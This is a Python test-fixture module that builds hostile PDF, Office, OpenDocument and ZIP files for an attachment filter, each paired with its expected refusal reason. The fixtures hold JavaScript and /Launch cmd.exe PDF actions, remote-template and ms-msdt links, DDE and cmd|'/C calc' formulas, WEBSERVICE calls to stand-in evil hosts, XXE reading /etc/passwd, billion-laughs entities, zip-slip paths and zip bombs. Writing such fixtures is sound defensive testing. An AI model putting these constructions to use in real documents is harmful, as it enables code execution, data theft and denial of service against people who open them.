"""PDF, Office, OpenDocument and ZIP files that must not come in as they are."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from factories.harmless_files import (
    _MAIN,
    _W,
    content_types,
    docx,
    object_stream,
    odf,
    odf_content,
    odf_parts,
    office,
    pdf,
    relationships,
    stream,
    zipped,
)
from library.attachments.reasons import Reason


@dataclass(frozen=True)
class Hostile:
    """A file that must not come in as it is.

    :param expected: the reason with which it is refused; ``None`` where it comes in harmless.
    :param gone: what must not be in what is stored.
    :param called: what it is stored as, where the name was the danger.
    """

    title: str
    filename: str
    make: Callable[[], bytes]
    expected: Reason | None
    gone: bytes = b""
    called: str = ""


SCRIPT = b"<script>alert(1)</script>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120)
ELF = b"\x7fELF\x02\x01\x01" + bytes(120)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(64)
SEVEN = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


def pdfs() -> Iterator[Hostile]:
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    escaped = b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>"

    def one(title: str, make: Callable[[], bytes], reason: Reason) -> Hostile:
        return Hostile(f"PDF {title}", "file.pdf", make, reason)

    active = Reason.ACTIVE
    yield one("with a script on opening", lambda: pdf(catalog=b"/OpenAction " + script), active)
    yield one("with a script among its names", lambda: pdf(catalog=b"/Names << /JavaScript 4 0 R >>"), active)
    yield one("with an escaped script", lambda: pdf(catalog=b"/OpenAction " + escaped), active)
    yield one("with a script in an object stream", lambda: pdf(object_stream(script)), active)
    yield one("with an escaped script in an object stream", lambda: pdf(object_stream(escaped)), active)
    yield one(
        "with an object stream that does not say so",
        lambda: pdf(object_stream(script, about=b"/Filter /FlateDecode")),
        active,
    )
    yield one(
        "with an escaped type of object stream",
        lambda: pdf(object_stream(script, about=b"/Type /Obj#53tm /Filter /FlateDecode")),
        active,
    )
    yield one(
        "with a script behind two filters",
        lambda: pdf(
            object_stream(
                script,
                about=b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
                pack=lambda raw: zlib.compress(raw).hex().encode() + b">",
            )
        ),
        active,
    )
    yield one(
        "with an object stream packed oddly",
        lambda: pdf(object_stream(script, about=b"/Type /ObjStm /Filter /LZWDecode")),
        Reason.UNREADABLE,
    )
    yield one(
        "with a damaged object stream",
        lambda: pdf(object_stream(b"<< /Length 1 >>", pack=lambda raw: raw)),
        Reason.UNREADABLE,
    )
    yield one("with an object stream like a bomb", lambda: pdf(object_stream(b" " * 40_000_000)), Reason.BOMB)
    yield one("that starts a program", lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), active)
    yield one(
        "that starts a program on a click",
        lambda: pdf(b"<< /Subtype /Link /A << /S /Launch /Win << /F (cmd) >> >> >>"),
        active,
    )
    yield one(
        "that opens an address", lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>"), active
    )
    yield one(
        "that opens an address by reference",
        lambda: pdf(b"<< /S /URI /URI (http://evil.example) >>", catalog=b"/OpenAction 4 0 R"),
        active,
    )
    yield one(
        "that opens an address in a stream",
        lambda: pdf(object_stream(b"<< /S /URI /URI (http://evil) >>"), catalog=b"/OpenAction 10 0 R"),
        active,
    )
    yield one("that opens what is not there", lambda: pdf(catalog=b"/OpenAction 99 0 R"), active)
    yield one(
        "that opens with two answers",
        lambda: pdf(b"[3 0 R /Fit]", tail=b"4 0 obj\n<< /S /URI >>\nendobj\n%%EOF\n", catalog=b"/OpenAction 4 0 R"),
        active,
    )
    yield one(
        "with deeds of a page", lambda: pdf(b"<< /Type /Page /AA << /O << /S /URI /URI (http://evil) >> >> >>"), active
    )
    yield one("that sends a form", lambda: pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), active)
    yield one("that fetches data", lambda: pdf(b"<< /S /ImportData /F (http://evil.example) >>"), active)
    yield one("with rich media", lambda: pdf(b"<< /Subtype /RichMedia >>"), active)
    yield one("with an XFA form", lambda: pdf(catalog=b"/AcroForm << /XFA 4 0 R >>"), active)
    yield one("that leads into a file inside", lambda: pdf(b"<< /S /GoToE /T << /R /C >> >>"), active)
    yield one("with a film", lambda: pdf(b"<< /Subtype /Movie /Movie << /F (http://evil) >> >>"), active)
    yield one("with a file inside", lambda: pdf(stream(b"/Type /EmbeddedFile", EXE)), Reason.EMBEDDED)
    yield one("with files among its names", lambda: pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"), Reason.EMBEDDED)
    yield one("with a file pinned to a page", lambda: pdf(b"<< /Subtype /FileAttachment >>"), Reason.EMBEDDED)
    yield one("that is a portfolio", lambda: pdf(catalog=b"/Collection << /View /T >>"), Reason.EMBEDDED)
    yield one("with a password", lambda: pdf(trailer=b"/Encrypt 4 0 R"), Reason.ENCRYPTED)
    yield one(
        "with a password in an object stream", lambda: pdf(object_stream(b"<< /Encrypt 4 0 R >>")), Reason.ENCRYPTED
    )
    yield one("that is a ZIP too", lambda: pdf(tail=zipped({"a.txt": "a"})), Reason.MISMATCH)
    yield one("behind other bytes", lambda: b"GIF89a\n" + pdf(), Reason.MISMATCH)
    yield one("behind a web page", lambda: HTML + pdf(), Reason.MISMATCH)
    yield one("before a web page", lambda: pdf(tail=HTML), Reason.MISMATCH)
    yield one("with much behind it", lambda: pdf(tail=bytes(50_000)), Reason.MISMATCH)
    yield one("without end", lambda: pdf().replace(b"%%EOF", b""), Reason.UNREADABLE)
    yield one("that is its mark alone", lambda: b"%PDF-1.7\n", Reason.UNREADABLE)


def offices() -> Iterator[Hostile]:
    def one(title: str, kind: str, reason: Reason, **more: bytes | str) -> Hostile:
        return Hostile(f"{kind} {title}", f"file.{kind}", lambda: office(kind, **more), reason)

    types = "[Content_Types].xml"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    vba = "application/vnd.ms-office.vbaProject"
    rels = "word/_rels/document.xml.rels"
    main = _MAIN["docx"]
    yield one("with a macro project", "docx", Reason.MACROS, **{"word/vbaProject.bin": OLE})
    yield one("with a macro project", "xlsx", Reason.MACROS, **{"xl/vbaProject.bin": OLE})
    yield one("with a macro project", "pptx", Reason.MACROS, **{"ppt/vbaProject.bin": OLE})
    yield one(
        "with a hidden macro project",
        "docx",
        Reason.MACROS,
        **{types: content_types(main, ("word/x.dat", vba)), "word/x.dat": b"x"},
    )
    yield one("that is a .docm", "docx", Reason.MACROS, **{types: content_types((main[0], macro))})
    yield one(
        "with macros by relationship", "docx", Reason.MACROS, **{rels: relationships(("vbaProject", "x.dat", False))}
    )
    yield one("with macro data", "docx", Reason.MACROS, **{"word/vbaData.xml": "<a/>"})
    yield one("with macro sheets of 1992", "xlsx", Reason.MACROS, **{"xl/macrosheets/sheet1.xml": "<a/>"})
    yield one("with dialogue sheets", "xlsx", Reason.MACROS, **{"xl/dialogsheets/sheet1.xml": "<a/>"})
    yield one("with controls", "docx", Reason.ACTIVE, **{"word/activeX/activeX1.xml": "<a/>"})
    yield one("with a ribbon of its own", "xlsx", Reason.ACTIVE, **{"customUI/customUI.xml": "<a/>"})
    yield one("with an OLE package", "docx", Reason.EMBEDDED, **{"word/embeddings/oleObject1.bin": OLE})
    yield one("with a program inside", "docx", Reason.PROGRAM, **{"word/media/image1.png": EXE})
    yield one("with a Linux program inside", "pptx", Reason.PROGRAM, **{"ppt/media/film.mp4": ELF})
    yield one("with a script inside", "pptx", Reason.PROGRAM, **{"ppt/media/run": "#!/bin/sh\nid\n"})
    yield one("with an archive inside", "docx", Reason.EMBEDDED, **{"word/media/image1.png": zipped({"a": "a"})})
    yield one("with a RAR inside", "pptx", Reason.EMBEDDED, **{"ppt/media/a.bin": RAR})
    yield one("with a PDF inside", "docx", Reason.EMBEDDED, **{"word/embeddings/a.bin": pdf()})
    yield one(
        "with a workbook with macros",
        "docx",
        Reason.MACROS,
        **{"word/embeddings/a.xlsx": office("xlsx", **{"xl/vbaProject.bin": OLE})},
    )
    yield one("with a ZIP called a workbook", "docx", Reason.EMBEDDED, **{"word/embeddings/a.xlsx": zipped({"a": "a"})})
    yield one(
        "with documents three deep",
        "docx",
        Reason.EMBEDDED,
        **{"word/embeddings/a.docx": office("docx", **{"word/embeddings/b.docx": docx()})},
    )
    settings = "word/_rels/settings.xml.rels"
    yield one(
        "with a template elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{settings: relationships(("attachedTemplate", "https://evil.example/t.dotm", True))},
    )
    yield one(
        "with a template on a share",
        "docx",
        Reason.EXTERNAL,
        **{settings: relationships(("attachedTemplate", "\\\\evil\\t.dotm", True))},
    )
    yield one(
        "with a template that is not marked",
        "docx",
        Reason.EXTERNAL,
        **{settings: relationships(("attachedTemplate", "file://evil/t.dotm", False))},
    )
    yield one(
        "with a picture elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("image", "http://evil.example/p.png", True))},
    )
    yield one(
        "with a frame elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("frame", "http://evil.example/", True))},
    )
    yield one(
        "with an object elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("oleObject", "mhtml:http://evil.example/x.html!x", True))},
    )
    yield one(
        "with a chapter elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("subDocument", "http://evil.example/", True))},
    )
    yield one(
        "with a link that runs",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("hyperlink", "javascript:alert(1)", True))},
    )
    yield one(
        "with a link to a file",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("hyperlink", "file:///c:/windows/calc.exe", True))},
    )
    yield one(
        "with a link to a search",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("hyperlink", "ms-msdt:/id PCWDiagnostic", True))},
    )
    yield one(
        "with a workbook elsewhere",
        "xlsx",
        Reason.EXTERNAL,
        **{"xl/externalLinks/_rels/e1.xml.rels": relationships(("externalLinkPath", "http://evil/x.xlsx", True))},
    )
    yield one(
        "with a film elsewhere",
        "pptx",
        Reason.EXTERNAL,
        **{"ppt/slides/_rels/s.xml.rels": relationships(("video", "http://evil.example/v.mp4", True))},
    )

    def field(*runs: str) -> str:
        inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        return f'<w:document xmlns:w="{_W}"><w:body><w:p>{inside}</w:p></w:body></w:document>'

    yield one("with DDE", "docx", Reason.EXTERNAL, **{main[0]: field("DDEAUTO c:\\\\windows\\\\cmd.exe")})
    yield one("with DDE in pieces", "docx", Reason.EXTERNAL, **{main[0]: field(" DD", "EAU", "TO cmd ")})
    simple = f'<w:document xmlns:w="{_W}"><w:fldSimple w:instr=" DDE cmd "/></w:document>'
    yield one("with DDE in a simple field", "docx", Reason.EXTERNAL, **{main[0]: simple})
    yield one(
        "with a picture by field", "docx", Reason.EXTERNAL, **{main[0]: field('INCLUDEPICTURE "http://evil/p.png"')}
    )

    def cell(formula: str) -> str:
        return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"

    sheet = "xl/worksheets/sheet1.xml"
    yield one("with a command in a cell", "xlsx", Reason.EXTERNAL, **{sheet: cell("cmd|'/C calc'!A0")})
    yield one("with WEBSERVICE", "xlsx", Reason.EXTERNAL, **{sheet: cell("_xlfn.WEBSERVICE(&quot;http://evil&quot;)")})
    yield one("with EXEC", "xlsx", Reason.EXTERNAL, **{sheet: cell("EXEC(&quot;calc&quot;)")})
    yield one(
        "with a DDE link",
        "xlsx",
        Reason.EXTERNAL,
        **{"xl/externalLinks/e1.xml": "<externalLink><ddeLink/></externalLink>"},
    )
    yield one("with laughing entities", "docx", Reason.BOMB, **{main[0]: LAUGHS})
    yield one("with an entity from outside", "docx", Reason.BOMB, **{main[0]: OUTSIDE})
    yield one("with entities in its types", "docx", Reason.BOMB, **{types: LAUGHS})
    yield one(
        "with entities in UTF-16",
        "docx",
        Reason.BOMB,
        **{"word/styles.xml": LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")},
    )
    yield one(
        "in UTF-7",
        "docx",
        Reason.UNREADABLE,
        **{"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'},
    )
    yield one("nested without end", "docx", Reason.BOMB, **{"word/styles.xml": "<a>" * 100_000})
    yield one(
        "with one endless tag",
        "docx",
        Reason.BOMB,
        **{"word/styles.xml": '<a b="' + "".join(map(str, range(700_000))) + '"/>'},
    )
    yield one("that is no XML", "docx", Reason.UNREADABLE, **{"word/styles.xml": "<a><b></a>"})
    yield one("with entities in a drawing", "pptx", Reason.BOMB, **{"ppt/media/i.svg": LAUGHS})


def opendocuments() -> Iterator[Hostile]:
    def one(title: str, reason: Reason, kind: str = "odt", **more: bytes | str) -> Hostile:
        return Hostile(f"{kind} {title}", f"file.{kind}", lambda: odf(kind, **more), reason)

    def content(title: str, inside: str, reason: Reason, kind: str = "odt") -> Hostile:
        return one(title, reason, kind, **{"content.xml": odf_content(inside)})

    yield one("with Basic", Reason.MACROS, **{"Basic/Standard/Module1.xml": "<a/>"})
    yield one("with scripts", Reason.MACROS, "ods", **{"Scripts/python/a.py": "import os"})
    yield content("that listens", '<script:event-listener xlink:href="vnd.sun.star.script:a"/>', Reason.MACROS)
    yield content("with a script", "<office:script/>", Reason.MACROS)
    yield content("with a link that runs", '<text:a xlink:href="macro:///Standard.Module1.Main"/>', Reason.MACROS)
    yield content("with a link to JavaScript", '<text:a xlink:href=" javascript:alert(1)"/>', Reason.MACROS)
    yield content("with a picture elsewhere", '<draw:image xlink:href="http://evil.example/p.png"/>', Reason.EXTERNAL)
    yield content("with a picture on a share", '<draw:image xlink:href="\\\\evil\\p.png"/>', Reason.EXTERNAL)
    yield content("with a chapter elsewhere", '<text:section-source xlink:href="../other.odt"/>', Reason.EXTERNAL)
    yield content(
        "with a table elsewhere", '<table:table-source xlink:href="http://evil/x.ods"/>', Reason.EXTERNAL, "ods"
    )
    yield content("with DDE", "<office:dde-source/>", Reason.EXTERNAL, "ods")
    yield content(
        "with a formula that fetches",
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil&quot;)"/>',
        Reason.EXTERNAL,
        "ods",
    )
    yield content("with a frame", '<draw:floating-frame xlink:href="a"/>', Reason.ACTIVE)
    yield content("with an applet", "<draw:applet/>", Reason.ACTIVE)
    yield content("with a plug-in", "<draw:plugin/>", Reason.ACTIVE, "odp")
    yield one(
        "with a password",
        Reason.ENCRYPTED,
        **{"META-INF/manifest.xml": '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>'},
    )
    yield one("with an OLE object", Reason.EMBEDDED, **{"Object 1": OLE})
    yield one("with a program", Reason.PROGRAM, **{"Pictures/a.png": EXE})
    yield one("with laughing entities", Reason.BOMB, **{"content.xml": LAUGHS})
    yield one("with entities in its settings", Reason.BOMB, **{"settings.xml": OUTSIDE})
    packed = odf_parts("odt")
    yield Hostile("odt whose kind is compressed", "file.odt", lambda: zipped(packed, stored=()), Reason.MISMATCH)
    late = {"content.xml": packed["content.xml"], **packed}
    yield Hostile("odt whose kind comes late", "file.odt", lambda: zipped(late), Reason.MISMATCH)


def zips() -> Iterator[Hostile]:
    def one(title: str, make: Callable[[], bytes], reason: Reason) -> Hostile:
        return Hostile(f"ZIP {title}", "file.docx", make, reason)

    yield one("that grows a thousandfold", lambda: office("docx", **{"word/a.bin": bytes(60_000_000)}), Reason.BOMB)
    yield one(
        "with many that grow",
        lambda: office("docx", **{f"word/{n}.bin": bytes(4_000_000) for n in range(20)}),
        Reason.BOMB,
    )
    yield one(
        "with too many entries", lambda: office("docx", **{f"word/{n}.xml": "<a/>" for n in range(4_100)}), Reason.BOMB
    )
    yield one("behind other bytes", lambda: b"GIF89a" + docx(), Reason.MISMATCH)
    yield one("before other bytes", lambda: docx() + HTML, Reason.UNREADABLE)
    yield one("with a comment", lambda: _commented(docx(), HTML), Reason.UNREADABLE)
    yield one("with a way out", lambda: office("docx", **{"../../evil.xml": "<a/>"}), Reason.MISMATCH)
    yield one("with a place of its own", lambda: office("docx", **{"/etc/evil.xml": "<a/>"}), Reason.MISMATCH)
    yield one(
        "with a name from Windows", lambda: docx().replace(b"word/document.xml", b"word\\document.xml"), Reason.MISMATCH
    )
    yield one("with two of one name", lambda: _doubled(), Reason.MISMATCH)
    yield one("with a password", lambda: _flagged(docx()), Reason.ENCRYPTED)
    yield one("packed oddly", lambda: _method(docx(), 12), Reason.UNREADABLE)
    yield one("that is cut", lambda: docx()[:-40], Reason.UNREADABLE)
    yield one("without a directory", lambda: b"PK\x03\x04" + bytes(200), Reason.UNREADABLE)
    yield one("whose sizes lie", lambda: _lying(docx()), Reason.UNREADABLE)
    yield one("whose content is damaged", lambda: _damaged(docx()), Reason.UNREADABLE)
    yield one("whose entries overlap", lambda: _overlapping(), Reason.BOMB)
    yield one("with room between its entries", lambda: _roomy(), Reason.MISMATCH)
    yield one("that is a link", lambda: _linked(), Reason.MISMATCH)
    yield one("without its list of types", lambda: zipped({"word/document.xml": "<a/>"}), Reason.MISMATCH)
    yield one("that promises more entries", lambda: _promising(docx()), Reason.UNREADABLE)


def _commented(content: bytes, comment: bytes) -> bytes:
    return content[:-2] + struct.pack("<H", len(comment)) + comment


def _doubled() -> bytes:
    import warnings

    out = io.BytesIO(docx())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as package:
            package.writestr("word/document.xml", "<evil/>")
    return out.getvalue()


def _central(content: bytes) -> int:
    return content.index(b"PK\x01\x02")


def _flagged(content: bytes) -> bytes:
    place = _central(content) + 8
    return content[:place] + b"\x01" + content[place + 1 :]


def _method(content: bytes, method: int) -> bytes:
    place = _central(content) + 10
    return content[:place] + struct.pack("<H", method) + content[place + 2 :]


def _lying(content: bytes) -> bytes:
    place = _central(content) + 24
    return content[:place] + struct.pack("<L", 10) + content[place + 4 :]


def _damaged(content: bytes) -> bytes:
    place = content.index(b"PK\x03\x04", 4) - 12
    return content[:place] + bytes(4) + content[place + 4 :]


def _promising(content: bytes) -> bytes:
    end = content.rindex(b"PK\x05\x06")
    return content[: end + 8] + struct.pack("<HH", 9, 9) + content[end + 12 :]


def _overlapping() -> bytes:
    """Return a ZIP whose second entry is the first once more, as bombs that quote themselves do."""
    content = docx()
    first = _central(content)
    second = content.index(b"PK\x01\x02", first + 4)
    return content[: second + 42] + content[first + 42 : first + 46] + content[second + 46 :]


def _roomy() -> bytes:
    """Return a ZIP with a web page between its entries and its directory."""
    content = docx()
    start, end = _central(content), content.rindex(b"PK\x05\x06")
    hidden = HTML * 3
    moved = struct.pack("<L", start + len(hidden))
    return content[:start] + hidden + content[start : end + 16] + moved + content[end + 20 :]


def _linked() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()
